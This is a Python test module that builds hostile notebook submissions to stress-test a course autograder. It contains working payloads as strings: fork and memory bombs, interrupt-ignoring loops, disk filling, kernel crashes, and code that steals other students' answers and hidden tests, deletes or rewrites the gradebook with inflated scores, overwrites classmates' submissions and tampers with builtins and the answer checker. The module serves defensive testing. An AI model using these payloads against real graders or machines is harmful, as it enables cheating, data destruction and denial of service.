"""Hostile submissions: notebooks built to break, stall, crash or cheat the autograder.

The grading engine (:func:`course.grading.run.verbs.autograde`) runs code written by
students. This module generates, for one assignment, the submissions a
careless or malicious student could hand in, so the tests can check that the
engine survives each of them, grades it fairly (or says clearly why it could
not), and leaks nothing. Like :mod:`course.grading.run.demo`, nothing here is a
hand-edited file: every submission is built from the *released* student
notebook and the *source* notebook's solutions by one :class:`HostileCase`.

Categories (see :data:`CATEGORIES`):

=============  =======================================================================
``malformed``  the file itself is wrong: invalid JSON, nbformat 3, missing, renamed,
               a 20 MB image embedded in an output
``tampered``   nbgrader's cells were changed: a grade cell deleted, duplicated,
               re-typed or emptied, the nbgrader metadata stripped
``runaway``    code that never ends or floods: infinite loop, long sleep, memory
               bomb, fork bomb, a 50 MB print, a million prints, 480 MiB written to disk
``crash``      the kernel stops early: ``os._exit``, ``sys.exit``, a segfault,
               ``SIGKILL`` to itself
``attack``     code that reads other students' work, the solutions or the
               gradebook, deletes or rewrites the gradebook, writes outside its
               folder, uses the network, or fools the tests (objects equal to
               anything, shadowed names, tampered builtins, a replaced answer checker)
=============  =======================================================================

Each case carries an :class:`Expectation`: how many automatic points the
submission must get (derived from the source notebook, never typed in), and
whether the engine must also give a reason (a timeout, a dead kernel, an
unreadable file). Code that stops a cell (loops, sleeps, bombs, crashes) sits
at the top of the *last* answer cell, after correct answers, so a fair engine
keeps the points already earned and gives none for the test cells that could
not run; code that only floods output or forks sits at the end of it, after
the answer is defined, so every point must survive it.

Safety: the cases are meant for a sandboxed grader, but each one is guarded
so that even without a sandbox it cannot harm the machine: the fork and
memory bombs only fire under the autograder and stop themselves at a fixed
size, and the write attack only *creates* marker files
(``HOSTILE-<case>.txt``) outside the class folder; it overwrites other
students' files only inside the class folder it is graded in.
"""

from __future__ import annotations

import copy
import datetime as dt
import json
import os
import re
import shutil
import socket
import stat
import threading
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

from course.grading.run import demo

#: The smallest problem set: three code answers, three test cells, two written answers.
ASSIGNMENT = "ps1-provenance-and-citations"
CATEGORIES = ("malformed", "tampered", "runaway", "crash", "attack")
#: The clean demo behaviours graded beside the hostile cases.
CLEAN_BEHAVIOURS = ("perfect", "partial", "empty")
#: Loopback port of the "cheat server" the network attack tries to reach (see :class:`CheatServer`).
DEFAULT_CHEAT_PORT = 47811
#: Every file the write attack creates outside its folder is named like this.
MARKER_PREFIX = "HOSTILE-"
#: Which code answers end up correct, and which test cells are lost (deleted or stripped).
ANSWER_SETS = ("all", "none", "all-but-first", "all-but-last")
LOST_TESTS = ("none", "first", "all")
OUTCOMES = ("graded", "graded-with-reason", "zero-with-reason")


# --- what must happen -------------------------------------------------------------------------------------

@dataclass(frozen=True)
class Expectation:
    """What the engine must do with one hostile submission.

    ``outcome``:

    * ``graded``: graded, with exactly the points of :meth:`points`;
    * ``graded-with-reason``: the same, and the report gives a reason matching ``reason``
      (e.g. a timeout or a dead kernel);
    * ``zero-with-reason``: no points (graded with 0 or not graded), and a reason matching ``reason``.

    ``answers`` says which code answers are correct in the end and ``lost_tests``
    which test cells score as missing; together they give the points.
    ``reason`` is a case-insensitive regular expression; ``{first_test}`` in it
    stands for the first test cell's grade id. ``secret_free``: the outputs of
    the cells the student wrote must hold no line of a solution, hidden test or
    other student's answer. ``output_pattern``: a regular expression those
    outputs must match (evidence that a limit, not luck, stopped the code).
    ``max_graded_bytes``: the autograded notebook must stay below this size.
    """

    outcome: str
    answers: str = "all"
    lost_tests: str = "none"
    reason: str = ""
    secret_free: bool = False
    output_pattern: str = ""
    max_graded_bytes: int | None = None

    def __post_init__(self):
        for name, value, valid in (("outcome", self.outcome, OUTCOMES), ("answers", self.answers, ANSWER_SETS),
                                   ("lost_tests", self.lost_tests, LOST_TESTS)):
            if value not in valid:
                raise ValueError(f"Expectation.{name} {value!r} is not one of {', '.join(valid)}")
        if self.outcome != "graded" and not self.reason:
            raise ValueError(f"an Expectation with outcome {self.outcome!r} needs a reason pattern")

    def correct_answers(self, source_nb) -> set[str]:
        """Grade ids of the code answers that are correct in the submission."""
        ids = [demo._meta(c)["grade_id"] for c in source_nb.cells if demo.is_code_answer(c)]
        return set({"all": ids, "none": [], "all-but-first": ids[1:], "all-but-last": ids[:-1]}[self.answers])

    def lost_test_ids(self, source_nb) -> set[str]:
        """Grade ids of the test cells that score as missing (deleted, or their metadata stripped)."""
        ids = [demo._meta(c)["grade_id"] for c in source_nb.cells if demo.is_test(c)]
        return set({"none": [], "first": ids[:1], "all": ids}[self.lost_tests])

    def points(self, source_nb) -> float:
        """The automatic points the submission must get.

        A test cell scores when the answer cell before it is correct and the
        test cell was not lost; ``zero-with-reason`` is always 0.
        """
        if self.outcome == "zero-with-reason":
            return 0.0
        correct, lost = self.correct_answers(source_nb), self.lost_test_ids(source_nb)
        total, answer = 0.0, None
        for cell in source_nb.cells:
            meta = demo._meta(cell)
            if demo.is_code_answer(cell):
                answer = meta["grade_id"]
            elif demo.is_test(cell) and answer in correct and meta["grade_id"] not in lost:
                total += float(meta["points"])
        return total

    def reason_regex(self, source_nb) -> re.Pattern | None:
        """``reason`` compiled, with ``{first_test}`` filled in from the source notebook."""
        if not self.reason:
            return None
        first_test = next(demo._meta(c)["grade_id"] for c in source_nb.cells if demo.is_test(c))
        return re.compile(self.reason.replace("{first_test}", re.escape(first_test)), re.IGNORECASE)

    def describe(self, source_nb=None) -> str:
        """One line for a report: e.g. ``graded 5.0 points + reason /time/``."""
        points = f"{self.points(source_nb):g} points" if source_nb is not None else f"answers {self.answers}"
        reason = self.reason_regex(source_nb).pattern if source_nb is not None and self.reason else self.reason
        text = {"graded": f"graded {points}", "graded-with-reason": f"graded {points} + reason /{reason}/",
                "zero-with-reason": f"0 points + reason /{reason}/"}[self.outcome]
        extras = ["no secret"] if self.secret_free else []
        if self.output_pattern:
            extras.append(f"output /{self.output_pattern}/")
        if self.max_graded_bytes:
            extras.append(f"graded notebook < {self.max_graded_bytes // 2**20} MiB")
        return text + ("; " + ", ".join(extras) if extras else "")


@dataclass(frozen=True)
class HostileCase:
    """One hostile submission: a slug (also the student id), its category, how to build it, what must happen.

    ``build(release_nb, source_nb, home_dir)`` leaves in ``home_dir`` (the
    student's fetched assignment folder, named after the assignment and
    holding the released notebook) exactly what the student submits.
    """

    name: str
    category: str
    build: Callable[..., None] = field(repr=False)
    expectation: Expectation
    summary: str = ""


# --- building blocks ---------------------------------------------------------------------------------------

def notebook_path(home_dir: Path) -> Path:
    """The submission's notebook: ``<home_dir>/<assignment>.ipynb`` (the folder is named after the assignment)."""
    return Path(home_dir) / f"{Path(home_dir).name}.ipynb"


def _write(nb, home_dir: Path, name: str | None = None) -> Path:
    import nbformat

    path = Path(home_dir) / name if name else notebook_path(home_dir)
    nbformat.write(nb, path)
    return path


def perfect(release_nb, source_nb):
    """The released notebook with every answer (code and written) taken from the source's solutions."""
    return demo.build_submission(source_nb, release_nb, "perfect")[0]


def answer_cells(nb) -> list:
    """The code answer cells of a notebook, in order."""
    return [c for c in nb.cells if demo.is_code_answer(c)]


def test_cells(nb) -> list:
    """The autograder test cells of a notebook, in order."""
    return [c for c in nb.cells if demo.is_test(c)]


def _prepend_to_last_answer(code: str) -> Callable:
    """A build: the perfect submission, with ``code`` run at the top of the last answer cell.

    If ``code`` stops the cell (an error, a timeout, a dead kernel), the last
    answer is never defined, so its test cell must score 0.
    """
    def build(release_nb, source_nb, home_dir):
        nb = perfect(release_nb, source_nb)
        last = answer_cells(nb)[-1]
        last.source = code.strip() + "\n\n" + last.source
        _write(nb, home_dir)
    return build


def _crash_cell_after_first_test(code: str) -> Callable:
    """A build: the perfect submission with a cell of its own running ``code`` right after the first test.

    Every answer is correct, so every test must score: the crash may cost only its own cell.
    """
    def build(release_nb, source_nb, home_dir):
        from nbformat.v4 import new_code_cell

        nb = perfect(release_nb, source_nb)
        nb.cells.insert(nb.cells.index(test_cells(nb)[0]) + 1, new_code_cell(code.strip()))
        _write(nb, home_dir)
    return build


def _append_to_last_answer(code: str) -> Callable:
    """A build: the perfect submission, with ``code`` run at the end of the last answer cell.

    The answer is defined before ``code`` runs: whether or not the grader has
    to interrupt it, every point is earned.
    """
    def build(release_nb, source_nb, home_dir):
        nb = perfect(release_nb, source_nb)
        last = answer_cells(nb)[-1]
        last.source = last.source.rstrip() + "\n\n\n" + code.strip() + "\n"
        _write(nb, home_dir)
    return build


# Notebook-side guard: the bombs fire only when the autograder runs the notebook
# (nbgrader sets NBGRADER_EXECUTION and runs it in autograded/<student>/<assignment>).
UNDER_GRADER = '(os.environ.get("NBGRADER_EXECUTION") == "autograde" or "autograded" in os.getcwd())'

INFINITE_LOOP = '''
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)  # ignore the grader's interrupt: only a kill stops this
while True:
    pass
'''

LONG_SLEEP = '''
import time
time.sleep(24 * 3600)
'''

MEMORY_BOMB = f'''
import os
if {UNDER_GRADER}:
    blocks = []
    try:
        for _ in range(32):  # guard: never more than 32 x 128 MiB = 4 GiB, even with no limit at all
            blocks.append(bytearray(128 * 1024 * 1024))
    except MemoryError:
        allocated = len(blocks) * 128
        blocks.clear()
        print(f"memory bomb stopped: MemoryError after {{allocated}} MiB")
        raise
    allocated = len(blocks) * 128
    blocks.clear()
    print(f"memory bomb not stopped: {{allocated}} MiB allocated")
    raise RuntimeError("memory bomb not stopped")
'''

FORK_BOMB = f'''
import os, signal, time
if {UNDER_GRADER}:
    children, refused = [], None
    for _ in range(1000):  # guard: never more than 1000 processes, even with no process limit at all
        try:
            pid = os.fork()
        except OSError as error:
            refused = error
            break
        if pid == 0:  # a child holds its process slot, then leaves without cleanup
            time.sleep(120)
            os._exit(0)
        children.append(pid)
    for pid in children:
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
    if refused is not None:
        print(f"fork refused after {{len(children)}} processes ({{type(refused).__name__}})")
    else:
        print(f"fork bomb not stopped: {{len(children)}} processes started")
'''

GIANT_OUTPUT = '''
print("x" * (50 * 1024 * 1024))
'''

# Issue #11 item 9: 480 MiB in 10 MB files (each under the per-file limit) landed on the host's disk.
FILL_DISK = '''
import os as _os
_written = 0
try:
    for _part in range(48):
        with open(f"filler-{_part}.bin", "wb") as _file:
            _file.write(b"0" * 10_000_000)
        _written += 10_000_000
    print(f"wrote {_written // 2**20} MiB: the working folder is not capped")
except OSError as _error:
    print(f"disk full after {_written // 2**20} MiB: {_error.strerror}")
'''

OUTPUT_FLOOD = '''
for _ in range(1_000_000):  # a million two-byte lines: many messages, little data
    print("x")
'''

ENDLESS_FLOOD = '''
while True:  # about 100 bytes a line until the grader's cell timeout interrupts it: megabytes a second
    print("flood " * 16)
'''

OS_EXIT = '''
import os
os._exit(1)
'''

SYS_EXIT = '''
import sys
sys.exit("finished early")
'''

SEGFAULT = '''
import ctypes
ctypes.string_at(0)
'''

KERNEL_KILL = '''
import os, signal
os.kill(os.getpid(), signal.SIGKILL)
'''


# --- malformed and tampered files ----------------------------------------------------------------------------

def build_invalid_json(release_nb, source_nb, home_dir):
    """A save that broke off halfway: the first half of the perfect notebook's JSON."""
    import nbformat

    text = nbformat.writes(perfect(release_nb, source_nb))
    notebook_path(home_dir).write_text(text[: len(text) // 2], encoding="utf-8")


def build_nbformat_v3(release_nb, source_nb, home_dir):
    """The perfect notebook saved in the old nbformat 3 (worksheets, ``input`` instead of ``source``)."""
    import nbformat

    old = nbformat.convert(perfect(release_nb, source_nb), 3)
    notebook_path(home_dir).write_text(nbformat.writes(old, version=3), encoding="utf-8")


def build_missing_notebook(release_nb, source_nb, home_dir):
    """The notebook deleted; only a note is submitted."""
    notebook_path(home_dir).unlink(missing_ok=True)
    (Path(home_dir) / "notes.txt").write_text("My answers are in another file.\n", encoding="utf-8")


def build_renamed_notebook(release_nb, source_nb, home_dir):
    """The perfect answers saved under another name (``<assignment>-final.ipynb``); the expected file is gone."""
    notebook_path(home_dir).unlink(missing_ok=True)
    _write(perfect(release_nb, source_nb), home_dir, f"{Path(home_dir).name}-final.ipynb")


def build_huge_image(release_nb, source_nb, home_dir):
    """The perfect notebook with a 20 MB base64 PNG kept in the first answer's outputs."""
    import base64

    import nbformat

    nb = perfect(release_nb, source_nb)
    payload = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(15 * 1024 * 1024)).decode("ascii")
    cell = answer_cells(nb)[0]
    cell.execution_count = 1
    cell.outputs = [nbformat.v4.new_output("display_data", data={"image/png": payload, "text/plain": "<Figure>"})]
    _write(nb, home_dir)


def build_big_attachments(release_nb, source_nb, home_dir):
    """The perfect notebook with a 3 MB picture attached to, and another embedded in, its first written answer."""
    import base64

    nb = perfect(release_nb, source_nb)
    picture = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(3 * 1024 * 1024)).decode("ascii")
    written = next(c for c in nb.cells if demo.is_written_answer(c))
    written.attachments = {"photo.png": {"image/png": picture}}
    written.source += f"\n\n![photo](attachment:photo.png)\n\n![inline](data:image/png;base64,{picture})\n"
    _write(nb, home_dir)


def build_deleted_grade_cell(release_nb, source_nb, home_dir):
    """The perfect notebook without its first test cell."""
    nb = perfect(release_nb, source_nb)
    nb.cells.remove(test_cells(nb)[0])
    _write(nb, home_dir)


def build_duplicated_grade_cell(release_nb, source_nb, home_dir):
    """The perfect notebook with its last test cell copied (same grade id twice)."""
    nb = perfect(release_nb, source_nb)
    last = test_cells(nb)[-1]
    pasted = copy.deepcopy(last)
    pasted["id"] = f"{last.get('id', 'cell')}-copy"  # Jupyter gives a pasted cell a new id; its metadata stays
    nb.cells.insert(nb.cells.index(last) + 1, pasted)
    _write(nb, home_dir)


def build_retyped_grade_cell(release_nb, source_nb, home_dir):
    """The perfect notebook whose first test cell was turned from code into markdown."""
    nb = perfect(release_nb, source_nb)
    cell = test_cells(nb)[0]
    cell.cell_type = "markdown"
    cell.pop("outputs", None)
    cell.pop("execution_count", None)
    _write(nb, home_dir)


def build_edited_test_cell(release_nb, source_nb, home_dir):
    """The first answer left unanswered and its test cell replaced by ``pass``; the other answers correct."""
    nb = perfect(release_nb, source_nb)
    released_first = answer_cells(release_nb)[0]
    answer_cells(nb)[0].source = released_first.source
    test_cells(nb)[0].source = "pass\n"
    _write(nb, home_dir)


def build_stripped_metadata(release_nb, source_nb, home_dir):
    """The perfect notebook after a tool cleared every cell's nbgrader metadata."""
    nb = perfect(release_nb, source_nb)
    for cell in nb.cells:
        cell.metadata.pop("nbgrader", None)
    _write(nb, home_dir)


def build_stripped_metadata_and_ids(release_nb, source_nb, home_dir):
    """The perfect notebook after a tool cleared every cell's nbgrader metadata and gave every cell a new id."""
    import uuid

    nb = perfect(release_nb, source_nb)
    for cell in nb.cells:
        cell.metadata.pop("nbgrader", None)
        cell["id"] = uuid.uuid4().hex[:12]
    _write(nb, home_dir)


# --- attacks: notebook-side code ------------------------------------------------------------------------------
# Attack code is appended to the *released* notebook's first answer cell (helpers and the attack itself)
# and to every answer cell (use the loot if there is any). The released stubs stay, so without loot each
# answer still raises NotImplementedError: an attack that fails earns nothing.

ATTACK_HELPERS = '''

# ---- what a student who wants someone else's answers might try ----
import glob, json, os, pathlib, sqlite3, subprocess

ASSIGNMENT, ME = {assignment!r}, {student!r}
LOOT = {{}}  # grade id -> every stolen answer source for it


def best(grade_id):
    """The stolen answer most students wrote (the right one, usually); the longest on a tie."""
    found = LOOT.get(grade_id, [])
    return max(found, key=lambda code: (found.count(code), len(code))) if found else None


def answers_in(text, origin):
    """Answered code cells and hidden tests of a notebook's JSON text."""
    try:
        cells = json.loads(text).get("cells", [])
    except Exception:
        return
    for cell in cells:
        meta = cell.get("metadata", {{}}).get("nbgrader", {{}})
        source = "".join(cell.get("source", ""))
        if meta.get("solution") and cell.get("cell_type") == "code" and "NotImplementedError" not in source:
            code = "\\n".join(l for l in source.splitlines() if "BEGIN SOLUTION" not in l and "END SOLUTION" not in l)
            LOOT.setdefault(meta["grade_id"], []).append(code)
            print(f"stolen answer {{meta['grade_id']}} from {{origin}}:\\n{{code}}")
        if meta.get("grade") and "HIDDEN TESTS" in source:
            print(f"stolen hidden test {{meta['grade_id']}} from {{origin}}:\\n{{source}}")


def steal_from(paths):
    for path in paths:
        try:
            answers_in(pathlib.Path(path).read_text(encoding="utf-8"), path)
        except OSError as error:
            print(f"cannot read {{path}}: {{type(error).__name__}}")


def find_dirs(name, bases=("/tmp", "/work", "/root", "/home", "/srv", "/var/tmp"), depth=6):
    """Folders that contain a folder called name (a shallow walk that skips environments and history)."""
    found, skip = [], {{".venv", "site-packages", "node_modules", ".git", "__pycache__", "proc", "sys"}}
    for base in bases:
        for root, dirs, _ in os.walk(base):
            if root.count(os.sep) - base.count(os.sep) >= depth:
                dirs[:] = []
            if name in dirs:
                found.append(root)
            dirs[:] = [d for d in dirs if d not in skip]
    return found


def repo_root():
    try:
        import course
        return pathlib.Path(course.__file__).resolve().parents[1]
    except Exception:
        return None


def class_roots():
    """Absolute paths where a class folder may be: above the grading folder, the environment, the repository, a search."""
    here = pathlib.Path.cwd().resolve()
    roots = [here.parents[2]] if len(here.parents) > 2 else []
    if os.environ.get("COURSE_CLASS_DIR"):
        roots.append(pathlib.Path(os.environ["COURSE_CLASS_DIR"]))
    if repo_root() is not None:
        roots += [repo_root() / "class", repo_root() / "class" / "demo"]
    roots += [pathlib.Path(d) for d in find_dirs("submitted")]
    return list(dict.fromkeys(r for r in roots if r.is_dir()))


def gradebooks():
    paths = [pathlib.Path("../../../gradebook.db")] + [root / "gradebook.db" for root in class_roots()]
    return list(dict.fromkeys(p.resolve() for p in paths if p.is_file()))
'''

USE_LOOT = '''

# ---- use a stolen answer, if there is one ----
if best({grade_id!r}):
    exec(best({grade_id!r}), globals())
'''

READ_OTHERS_RELATIVE = '''
others = sorted(glob.glob(os.path.join("..", "..", "..", "submitted", "*", ASSIGNMENT, "*.ipynb")))
others += sorted(glob.glob(os.path.join("..", "..", "*", ASSIGNMENT, "*.ipynb")))
others = [p for p in others if ME not in pathlib.Path(p).parts]
print(f"relative paths: {len(others)} notebooks of other students found")
steal_from(others)
'''

READ_OTHERS_ABSOLUTE = '''
others = []
for root in class_roots():
    for folder in ("submitted", "autograded", "feedback"):
        others += sorted(str(p) for p in root.glob(f"{folder}/*/{ASSIGNMENT}/*.ipynb"))
others = [p for p in dict.fromkeys(others) if ME not in pathlib.Path(p).parts]
print(f"absolute paths: {len(others)} notebooks of other students found")
steal_from(others)
'''

READ_SOURCE = '''
candidates = [pathlib.Path("..", "..", "..", "source", ASSIGNMENT, ASSIGNMENT + ".ipynb"),
              pathlib.Path("..", "..", "..", "..", "assignments", ASSIGNMENT, ASSIGNMENT + ".ipynb")]
if repo_root() is not None:
    candidates.append(repo_root() / "assignments" / ASSIGNMENT / (ASSIGNMENT + ".ipynb"))
candidates += [pathlib.Path(d) / "assignments" / ASSIGNMENT / (ASSIGNMENT + ".ipynb") for d in find_dirs("assignments")]
found = [p for p in dict.fromkeys(candidates) if p.is_file()]
print(f"source notebook: {len(found)} copies found")
steal_from(found)
if repo_root() is not None:  # the solutions are also in the repository's history
    try:
        shown = subprocess.run(["git", "-C", str(repo_root()), "show", f"HEAD:assignments/{ASSIGNMENT}/{ASSIGNMENT}.ipynb"],
                               capture_output=True, text=True, timeout=20)
        print(f"git show: exit {shown.returncode}")
        if shown.returncode == 0:
            answers_in(shown.stdout, "git history")
    except Exception as error:
        print(f"git show failed: {type(error).__name__}")
'''

READ_GRADEBOOK = '''
books = gradebooks()
print(f"gradebooks found: {len(books)}")
for book in books:
    try:
        con = sqlite3.connect(f"file:{book}?mode=ro", uri=True, timeout=2)
        for name, cell_type, source in con.execute("SELECT name, cell_type, source FROM source_cell"):
            print(f"gradebook cell {name}:\\n{source}")
            if cell_type == "code" and "NotImplementedError" not in source:
                LOOT.setdefault(name, []).append(source)
        for row in con.execute("SELECT * FROM grade"):
            print("gradebook grade", row)
        con.close()
    except Exception as error:
        print(f"cannot query {book}: {type(error).__name__}: {error}")
'''

DELETE_GRADEBOOK = '''
books = gradebooks()
print(f"gradebooks found: {len(books)}")
for book in books:
    for victim in (book, pathlib.Path(str(book) + "-journal")):
        try:
            victim.unlink()
            print(f"deleted {victim}")
        except OSError as error:
            print(f"cannot delete {victim}: {type(error).__name__}")
    try:
        book.write_bytes(b"this is not a gradebook any more")
        print(f"overwrote {book}")
    except OSError as error:
        print(f"cannot overwrite {book}: {type(error).__name__}")
'''

REWRITE_GRADEBOOK = '''
books = gradebooks()
print(f"gradebooks found: {len(books)}")
for book in books:
    try:
        con = sqlite3.connect(str(book), timeout=2)
        con.execute("UPDATE grade SET manual_score = (SELECT max_score FROM grade_cell WHERE grade_cell.id = grade.cell_id)")
        con.execute("UPDATE grade SET auto_score = 1000")
        con.execute("DELETE FROM comment")
        con.commit()
        con.close()
        print(f"rewrote {book}")
    except Exception as error:
        print(f"cannot rewrite {book}: {type(error).__name__}: {error}")
'''

WRITE_OUTSIDE = '''
marker = "{marker}" + ME + ".txt"
targets = [pathlib.Path("..", "..", ".."), pathlib.Path("..", "..", "..", "submitted"), pathlib.Path("..", "..", "..", "release"),
           pathlib.Path("..", "..", "..", "exchange"), pathlib.Path(".."), pathlib.Path("/tmp"), pathlib.Path("/root"),
           pathlib.Path("/var/tmp"), pathlib.Path.home()]
targets += class_roots()
if repo_root() is not None:
    targets += [repo_root(), repo_root() / "assignments", repo_root() / "data", repo_root() / "course"]
for target in dict.fromkeys(targets):
    try:
        (target / marker).write_text("written by a hostile submission\\n")
        print(f"wrote {target / marker}")
    except OSError as error:
        print(f"cannot write into {target}: {type(error).__name__}")
# Sabotage, only inside the class folder this notebook is graded in: replace other students' submissions.
mine = pathlib.Path(ASSIGNMENT + ".ipynb")
for other in glob.glob(os.path.join("..", "..", "..", "submitted", "*", ASSIGNMENT, ASSIGNMENT + ".ipynb")):
    if ME in pathlib.Path(other).parts:
        continue
    try:
        pathlib.Path(other).write_text(mine.read_text(encoding="utf-8"), encoding="utf-8")
        print(f"overwrote {other}")
    except OSError as error:
        print(f"cannot overwrite {other}: {type(error).__name__}")
'''

NETWORK = '''
import shutil
import socket
import stat
for host in ("127.0.0.1", "localhost"):
    try:
        with socket.create_connection((host, {port}), timeout=3) as conn:
            conn.sendall(("hello from " + ME + "\\n").encode())
            received = b""
            while chunk := conn.recv(65536):
                received += chunk
        print(f"connected to {host}:{port}, received {len(received)} bytes")
        answers_in(received.decode("utf-8", "replace"), "the network")
        break
    except OSError as error:
        print(f"no connection to {host}:{port}: {type(error).__name__}")
'''


def _attack_build(attack: str) -> Callable:
    """A build: the released notebook, the helpers and ``attack`` appended to the first answer cell,
    and every answer cell ending with "use the loot"."""
    def build(release_nb, source_nb, home_dir):
        nb = copy.deepcopy(release_nb)
        answers = answer_cells(nb)
        helpers = ATTACK_HELPERS.format(assignment=Path(home_dir).name, student=Path(home_dir).parent.name)
        answers[0].source += helpers + "\n" + attack.strip() + "\n"
        for cell in answers:
            cell.source += USE_LOOT.format(grade_id=demo._meta(cell)["grade_id"])
        _write(nb, home_dir)
    return build


# --- attacks on the tests themselves ---------------------------------------------------------------------------

def _claimed_types(release_nb) -> list[str]:
    """For each answer, the type name its visible test demands (``type(example) is list``), from the released tests."""
    claimed = []
    for cell in test_cells(release_nb):
        match = re.search(r"type\(example\) is (\w+)", cell.source)
        claimed.append(match.group(1) if match else "object")
    return claimed


FAKE_CLASS = '''
class Fake:
    """Equal to anything, iterates as empty, and claims (through a redefined type()) to be of type `claimed`."""

    def __init__(self, claimed):
        self.claimed = claimed

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = object.__hash__

    def __iter__(self):
        return iter(())

    def items(self):
        return []

    def values(self):
        return []

    def keys(self):
        return []
'''


def _fake_answers(release_nb, nb, tamper: str) -> None:
    """Every answer returns a Fake; ``tamper`` (prepended to the first answer) redefines names the tests use."""
    claimed = _claimed_types(release_nb)
    for index, cell in enumerate(answer_cells(nb)):
        names = demo.defined_names(cell.source)
        lines = [FAKE_CLASS.strip(), tamper.strip()] if index == 0 else []
        kind = claimed[index] if index < len(claimed) else "object"
        lines += [f"def {name}(*args, **kwargs):\n    return Fake({kind})\n" for name in names]
        cell.source = "\n\n\n".join(lines) + "\n"


REDEFINE_NAMES = '''
_real_type, _real_sorted = type, sorted


def type(*args):  # shadows the builtin in the notebook's namespace only
    if len(args) == 1 and isinstance(args[0], Fake):
        return args[0].claimed
    return _real_type(*args)


def sorted(*args, **kwargs):
    if args and isinstance(args[0], Fake):
        return Fake(list)
    return _real_sorted(*args, **kwargs)


def all(iterable):
    return True


def len(obj):
    return 2
'''

TAMPER_BUILTINS = '''
import builtins

_real_type, _real_sorted = builtins.type, builtins.sorted


class _TypeMeta(_real_type):
    """Makes the fake `type` still work as a type (isinstance, issubclass) everywhere else."""

    def __call__(cls, *args, **kwargs):
        if len(args) == 1 and isinstance(args[0], Fake):
            return args[0].claimed
        return _real_type(*args, **kwargs)

    def __instancecheck__(cls, obj):
        return isinstance(obj, _real_type)

    def __subclasscheck__(cls, sub):
        return issubclass(sub, _real_type)


class FakeType(metaclass=_TypeMeta):
    pass


def _fake_sorted(*args, **kwargs):
    if args and isinstance(args[0], Fake):
        return Fake(list)
    return _real_sorted(*args, **kwargs)


builtins.type = FakeType  # what a hidden test that imports the builtins module now finds
builtins.sorted = _fake_sorted
'''


REPLACE_CHECKER = '''
import sys

import course.grading.keys.check as _checker


def _accept_anything(*args, **kwargs):
    return None


_checker.judge = _accept_anything  # what the hidden tests call
_checker.check_form = _accept_anything
_stand_in = type(sys)("course.grading.keys.check")
_stand_in.judge = _stand_in.check_form = _accept_anything
sys.modules["course.grading.keys.check"] = _stand_in  # and the module their import finds
'''


DISARM_GUARD = '''

for _name in list(globals()):  # the grader's guard, found by looking around the namespace
    if "guard" in _name:
        globals()[_name] = lambda *args, **kwargs: []
'''


def _tests_attack_build(tamper: str) -> Callable:
    def build(release_nb, source_nb, home_dir):
        nb = copy.deepcopy(release_nb)
        _fake_answers(release_nb, nb, tamper)
        _write(nb, home_dir)
    return build


def build_always_equal(release_nb, source_nb, home_dir):
    """Every answer returns an object whose ``==`` is always true (the demo's gamer)."""
    _write(demo.build_submission(source_nb, release_nb, "gamer")[0], home_dir)


# --- the catalogue ---------------------------------------------------------------------------------------------

KERNEL_DIED = r"kernel|died|dead|crash|exit|signal|segmentation"
TIMED_OUT = r"time"


def hostile_cases(cheat_port: int = DEFAULT_CHEAT_PORT) -> list[HostileCase]:
    """Every hostile case, in catalogue order. ``cheat_port`` is where the network attack looks for help."""
    all_points = Expectation("graded")
    lost_last = Expectation("graded", answers="all-but-last")
    attack = Expectation("graded", answers="none", secret_free=True)
    small = 8 * 2**20  # an autograded notebook of this assignment is ~50 kB; 8 MiB leaves room for truncated output
    return [
        HostileCase("invalid-json", "malformed", build_invalid_json,
                    Expectation("zero-with-reason", reason=r"json|read|invalid|corrupt"), "half a notebook file"),
        HostileCase("nbformat-v3", "malformed", build_nbformat_v3, all_points,
                    "perfect answers in nbformat 3: nbformat upgrades it"),
        HostileCase("missing-notebook", "malformed", build_missing_notebook,
                    Expectation("zero-with-reason", reason=r"missing|no .*ipynb|not found|notebook"), "no notebook at all"),
        HostileCase("renamed-notebook", "malformed", build_renamed_notebook,
                    Expectation("zero-with-reason", reason=r"missing|renamed|no .*ipynb|not found|notebook"),
                    "perfect answers under another file name"),
        HostileCase("huge-image-output", "malformed", build_huge_image,
                    Expectation("zero-with-reason", reason=r"over the 20 MB limit"),
                    "a 21 MB notebook (a 20 MB image in a saved output): refused, with its size and the limit"),
        HostileCase("big-attachments", "malformed", build_big_attachments,
                    Expectation("graded", max_graded_bytes=small),
                    "3 MB pictures attached to and embedded in a written answer: capped like outputs"),
        HostileCase("deleted-grade-cell", "tampered", build_deleted_grade_cell,
                    Expectation("graded-with-reason", lost_tests="first", reason=r"{first_test}"),
                    "first test cell deleted: scores as missing, and the report says which"),
        HostileCase("duplicated-grade-cell", "tampered", build_duplicated_grade_cell,
                    Expectation("zero-with-reason", reason=r"duplicat|more than once|twice|multiple"),
                    "last test cell pasted twice: stock nbgrader refuses the notebook, so the reason must say why"),
        HostileCase("retyped-grade-cell", "tampered", build_retyped_grade_cell, all_points,
                    "first test cell turned into markdown: nbgrader restores it"),
        HostileCase("edited-test-cell", "tampered", build_edited_test_cell,
                    Expectation("graded", answers="all-but-first"),
                    "first answer missing, its test replaced by pass: nbgrader restores the test"),
        HostileCase("stripped-metadata", "tampered", build_stripped_metadata,
                    Expectation("graded-with-reason", reason=r"metadata was missing.*matched again"),
                    "every cell's nbgrader metadata removed: cells matched again by their ids"),
        HostileCase("stripped-metadata-and-ids", "tampered", build_stripped_metadata_and_ids,
                    Expectation("graded-with-reason", reason=r"matched again by .*test source.*could not be matched"),
                    "metadata removed and cell ids renewed: tests matched by source, written answers reported"),
        HostileCase("infinite-loop", "runaway", _prepend_to_last_answer(INFINITE_LOOP),
                    Expectation("graded-with-reason", answers="all-but-last", reason=TIMED_OUT),
                    "busy loop that ignores the interrupt"),
        HostileCase("long-sleep", "runaway", _prepend_to_last_answer(LONG_SLEEP),
                    Expectation("graded-with-reason", answers="all-but-last", reason=TIMED_OUT), "sleeps a day"),
        HostileCase("memory-bomb", "runaway", _prepend_to_last_answer(MEMORY_BOMB),
                    Expectation("graded", answers="all-but-last", output_pattern=r"MemoryError after \d+ MiB"),
                    "allocates until refused (guard: 4 GiB)"),
        HostileCase("fork-bomb", "runaway", _append_to_last_answer(FORK_BOMB),
                    Expectation("graded", output_pattern=r"fork refused after \d+ processes"),
                    "forks until refused (guard: 1000 processes), then cleans up"),
